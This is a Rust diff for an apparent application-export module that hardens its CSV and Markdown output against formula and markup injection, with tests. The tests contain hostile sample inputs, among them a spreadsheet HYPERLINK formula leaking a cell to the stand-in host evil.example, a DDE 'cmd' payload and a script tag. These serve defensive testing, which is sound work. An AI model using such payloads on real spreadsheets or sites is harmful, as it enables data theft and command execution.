@@ -82,7 +82,7 @@ fn share<'a>(content: &'a Content, draft: &Draft) -> Option<Share<'a>> {
 /// summary's section headings, the total costs and the share applied for, and its history.
 pub fn markdown(content: &Content, draft: &Draft, locale: Locale) -> String {
     let text = |id: &str| content.catalog.format(locale, &MessageId::new(id), None);
-    let title = draft.answers.get(&SlotName::new("project_title")).map(|v| display_value(content, locale, &SlotName::new("project_title"), v));
+    let title = draft.answers.get(&SlotName::new("project_title")).map(|v| md_text(&display_value(content, locale, &SlotName::new("project_title"), v)));
     let mut md = format!("# {} — {}\n\n", draft.id, title.unwrap_or_else(|| text("application-title")));
     md.push_str(&format!("- **{}:** {}\n", text("export-status"), text(&format!("draft-status-{}", draft.status.as_str()))));
     md.push_str(&format!("- **{}:** {}\n", text("export-submitted"), Date::from_unix(draft.created).display_dmy()));
@@ -96,7 +96,7 @@ pub fn markdown(content: &Content, draft: &Draft, locale: Locale) -> String {
         if let Some(section) = &f.section {
             md.push_str(&format!("## {section}\n\n"));
         }
-        let mut value = f.value;
+        let mut value = md_text(&f.value);
         if let Some(s) = share.as_ref().filter(|s| s.amount == &f.slot) {
             let mut args = fluent_bundle::FluentArgs::new();
             args.set("share", s.percent);
@@ -116,17 +116,33 @@ pub fn markdown(content: &Content, draft: &Draft, locale: Locale) -> String {
     if draft.history.len() > 1 {
         md.push_str(&format!("## {}\n\n", text("export-history")));
         for e in &draft.history {
-            let who = e.by.as_deref().unwrap_or("—");
-            let note = e.note.as_deref().map(|n| format!(": {n}")).unwrap_or_default();
+            let who = md_text(e.by.as_deref().unwrap_or("—"));
+            let note = e.note.as_deref().map(|n| format!(": {}", md_text(n))).unwrap_or_default();
             md.push_str(&format!("- {} {} ({who}){note}\n", Date::from_unix(e.at).display_dmy(), e.status.as_str()));
         }
     }
     md.trim_end().to_owned() + "\n"
 }
 
-/// Quotes a CSV field when it needs it (RFC 4180).
+/// A CSV field: a leading `=`, `+`, `-`, `@`, tab or carriage return is made inert with an
+/// apostrophe, so a spreadsheet shows it instead of running it as a formula (OWASP's advice
+/// against CSV injection); then quoted when it needs it (RFC 4180).
 fn csv_field(s: &str) -> String {
-    if s.contains([',', '"', '\n', '\r']) { format!("\"{}\"", s.replace('"', "\"\"")) } else { s.to_owned() }
+    let inert = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{s}") } else { s.to_owned() };
+    if inert.contains([',', '"', '\n', '\r']) { format!("\"{}\"", inert.replace('"', "\"\"")) } else { inert }
+}
+
+/// Text someone typed, made inert for Markdown: nothing in it becomes emphasis, a link, code,
+/// a heading, a table or HTML when the export is rendered.
+fn md_text(s: &str) -> String {
+    let mut out = String::with_capacity(s.len());
+    for c in s.chars() {
+        if matches!(c, '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '#' | '|' | '~' | '&' | '!') {
+            out.push('\\');
+        }
+        out.push(c);
+    }
+    out
 }
 
 /// One row per draft; columns: id, status, created, platform, language, then every answer slot.
@@ -149,4 +165,37 @@ pub fn csv(content: &Content, drafts: &[Draft], locale: Locale) -> String {
         out.push('\n');
     }
     out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn no_exported_cell_is_a_formula() {
+        for attack in ["=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Open\")", "+1+cmd|'/C calc'!A0", "@SUM(1+1)", "-2+3", "\tcmd", "\rcmd", "+47 912 34 567"] {
+            let cell = csv_field(attack);
+            let unquoted = cell.trim_start_matches('"');
+            assert!(unquoted.starts_with('\''), "{attack:?} became {cell:?}");
+        }
+        assert_eq!(csv_field("Kirkenes Choir"), "Kirkenes Choir");
+        assert_eq!(csv_field("a, \"b\""), "\"a, \"\"b\"\"\"");
+    }
+
+    #[test]
+    fn typed_text_is_inert_in_markdown() {
+        let md = md_text("<script>alert(1)</script> **bold** [click](http://evil.example) `code` # no heading | &amp; \\*");
+        // Take away every escaped character: nothing that means anything to Markdown is left.
+        let mut bare = String::new();
+        let mut chars = md.chars();
+        while let Some(c) = chars.next() {
+            if c == '\\' {
+                chars.next();
+            } else {
+                bare.push(c);
+            }
+        }
+        assert!(!bare.contains(['<', '>', '*', '[', ']', '`', '#', '|', '&', '\\']), "{md}");
+        assert_eq!(md_text("Singing across the border."), "Singing across the border.");
+    }
 }
